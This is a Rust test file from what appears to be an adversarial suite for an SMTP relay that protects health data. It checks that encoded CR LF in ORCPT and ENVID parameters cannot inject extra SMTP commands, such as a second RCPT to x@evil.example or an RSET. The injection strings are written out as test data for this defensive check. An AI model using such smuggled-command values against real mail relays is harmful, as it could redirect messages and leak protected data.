//! The adversarial suite of the fail-closed review: each test tries to get PHI
//! out unprotected, or to steer the relay with client input, and checks that
//! nothing reaches the destination in clear (held, deferred or refused).

use std::time::Duration;

use phirelay::store::RecipientState;

use crate::common::client::{Client, queue_id};
use crate::common::delivery::{World, mx_zone};
use crate::common::sink::SinkOpts;

const WAIT: Duration = Duration::from_secs(15);

/// Item 2: an ORCPT whose decoded value holds CR LF and a `;` once reached the
/// next hop as a separate RCPT line. Now it is refused at RCPT with 501 5.5.4,
/// and so is an ENVID with control characters; a clean ORCPT still passes,
/// re-encoded, and the next hop sees exactly the one recipient.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn orcpt_and_envid_cannot_inject_commands() {
    let w = World::start(vec![mx_zone("partner.example", 2)], "", "").await;
    let mx = w.sink(2, SinkOpts::default()).await;
    let mut c = Client::connect(w.relay.addr).await;
    c.hello().await;
    c.cmd("MAIL FROM:<a@clinic.example> ENVID=x+0D+0ARSET", 501)
        .await;
    c.cmd("MAIL FROM:<a@clinic.example> ENVID=env-1", 250).await;
    let hostile = "RCPT TO:<b@partner.example> NOTIFY=FAILURE \
        ORCPT=rfc822;a+0D+0ARCPT+20TO:<x@evil.example>+0D+0ANOOP;b";
    let r = c.cmd(hostile, 501).await;
    assert!(r.text().contains("5.5.4"), "{}", r.text());
    c.cmd(
        "RCPT TO:<b@partner.example> ORCPT=rfc822;a+3Bb@partner.example",
        501,
    )
    .await;
    c.cmd(
        "RCPT TO:<b@partner.example> NOTIFY=FAILURE ORCPT=rfc822;orig+2Bx@partner.example",
        250,
    )
    .await;
    c.cmd("DATA", 354).await;
    c.send(b"Subject: hi\r\n\r\nno phi\r\n.\r\n").await;
    let id = queue_id(&c.reply().await);
    assert_eq!(
        w.wait_final(&id, WAIT).await,
        vec![RecipientState::Delivered]
    );
    let m = &mx.messages()[0];
    assert_eq!(m.rcpts, vec!["b@partner.example"]);
    assert!(
        m.rcpt_params[0].contains("ORCPT=rfc822;orig+2Bx@partner.example"),
        "{:?}",
        m.rcpt_params
    );
    assert!(m.mail_params.contains("ENVID=env-1"), "{}", m.mail_params);
}
